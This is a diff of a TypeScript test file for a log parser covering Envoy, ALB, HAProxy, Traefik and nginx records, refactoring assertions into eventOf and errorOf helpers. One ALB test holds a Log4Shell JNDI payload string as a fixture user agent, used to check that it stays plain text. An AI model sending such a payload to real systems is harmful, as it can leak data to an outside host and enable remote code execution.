@@ -2,10 +2,26 @@ import { createHash } from 'node:crypto';
 import { readFileSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
 import { Secret } from '../../core/secret.ts';
-import { createRecordParser, type ParseOutcome } from '../../ingest/parse.ts';
+import {
+  createRecordParser,
+  type ParseOutcome,
+  type RecordParseError,
+} from '../../ingest/parse.ts';
 import type { SourceConfigInput } from '../../ingest/source-config.ts';
 import type { AccessEvent } from '../../schemas/access-event.ts';
 import { CORPUS_SKIP_REASON, corpusPath } from '../helpers/corpus.ts';
+
+/** Returns the event of an accepted record; a rejection fails the test with its reason. */
+function eventOf(outcome: ParseOutcome): AccessEvent {
+  if (!outcome.ok) throw outcome.error;
+  return outcome.event;
+}
+
+/** Returns the error of a rejected record; an accepted one fails the test. */
+function errorOf(outcome: ParseOutcome): RecordParseError {
+  if (outcome.ok) throw new Error(`expected a rejection, got event ${outcome.event.id}`);
+  return outcome.error;
+}
 
 const key = new Secret('test-key', 'test');
 const meta = { topic: 'logs', partition: 0, offset: '42' };
@@ -114,7 +130,7 @@ describe('envoy gateway json parser', () => {
     const line = fixtureLines('envoy-gateway-json/envoy.log')[0] ?? '';
     const first = parseLine({ format: 'envoy-json' }, line);
     const again = parseLine({ format: 'envoy-json' }, line);
-    expect(first.ok && again.ok && first.event.id === again.event.id).toBe(true);
+    expect(eventOf(again).id).toBe(eventOf(first).id);
   });
 
   it('splits records that repeat a request id', () => {
@@ -122,10 +138,8 @@ describe('envoy gateway json parser', () => {
     const otherHop = line.replace('10.0.0.12:59292', '10.0.0.99:41000');
     const first = parseLine({ format: 'envoy-json' }, line);
     const second = parseLine({ format: 'envoy-json' }, otherHop);
-    expect(first.ok && second.ok && first.event.id !== second.event.id).toBe(true);
-    expect(second.ok && second.event.id.startsWith('3bbc0252-2d5c-49fe-bd89-104e9b61770b~')).toBe(
-      true,
-    );
+    expect(eventOf(second).id).not.toBe(eventOf(first).id);
+    expect(eventOf(second).id.startsWith('3bbc0252-2d5c-49fe-bd89-104e9b61770b~')).toBe(true);
   });
 });
 
@@ -156,8 +170,8 @@ describe.skipIf(!corpusPath('envoy-text/envoy.log'))(
     it('keeps a TCP entry without request', () => {
       const line = lines(corpusPath('envoy-text/envoy.log') ?? '')[0] ?? '';
       const outcome = parseLine({ format: 'envoy' }, line);
-      expect(outcome.ok && outcome.event.method).toBe('');
-      expect(outcome.ok && outcome.event.path).toBe('');
+      expect(eventOf(outcome).method).toBe('');
+      expect(eventOf(outcome).path).toBe('');
     });
 
     it('parses the Istio format', () => {
@@ -234,7 +248,7 @@ describe('alb parser', () => {
   it('keeps a log4j user agent as text', () => {
     const line = fixtureLines('aws-alb/aws-alb-logs.log')[4] ?? '';
     const outcome = parseLine({ format: 'alb' }, line);
-    expect(outcome.ok && outcome.event.userAgent).toBe('${jndi:ldap://${java:version}.domain/a}');
+    expect(eventOf(outcome).userAgent).toBe('${jndi:ldap://${java:version}.domain/a}');
   });
 });
 
@@ -260,8 +274,8 @@ describe('haproxy parser', () => {
   it('reads the accept date in the time zone', () => {
     const line = fixtureLines('haproxy-http/haproxy-logs.log')[0] ?? '';
     const outcome = parseLine({ format: 'haproxy', timeZone: 'Asia/Shanghai' }, line);
-    expect(outcome.ok && outcome.event.timestamp).toBe(Date.UTC(2015, 0, 14, 4, 48, 57, 127));
-    expect(outcome.ok && outcome.event.sourceIp).toBe('117.136.40.129');
+    expect(eventOf(outcome).timestamp).toBe(Date.UTC(2015, 0, 14, 4, 48, 57, 127));
+    expect(eventOf(outcome).sourceIp).toBe('117.136.40.129');
   });
 
   it('rejects TLS handshake lines', () => {
@@ -297,7 +311,7 @@ describe('traefik json parser', () => {
   it('rejects the plugin debug line', () => {
     const line = fixtureLines('traefik-json/traefik_json.log')[5] ?? '';
     const outcome = parseLine({ format: 'traefik' }, line);
-    expect(!outcome.ok && outcome.error.reason).toBe('no_match');
+    expect(errorOf(outcome).reason).toBe('no_match');
   });
 });
 
@@ -343,10 +357,8 @@ describe('nginx json parser', () => {
   it('names the field of the wrong type', () => {
     const bad = JSON.stringify({ ...JSON.parse(line), status: '200 OK' });
     const outcome = parseLine({ format: 'nginx-json' }, bad);
-    expect(!outcome.ok && outcome.error.reason).toBe('wrong_type');
-    expect(!outcome.ok && outcome.error.field).toBe('status');
-    expect(!outcome.ok && outcome.error.message).toBe(
-      'field status must be a non-negative number, got string',
-    );
+    expect(errorOf(outcome).reason).toBe('wrong_type');
+    expect(errorOf(outcome).field).toBe('status');
+    expect(errorOf(outcome).message).toBe('field status must be a non-negative number, got string');
   });
 });
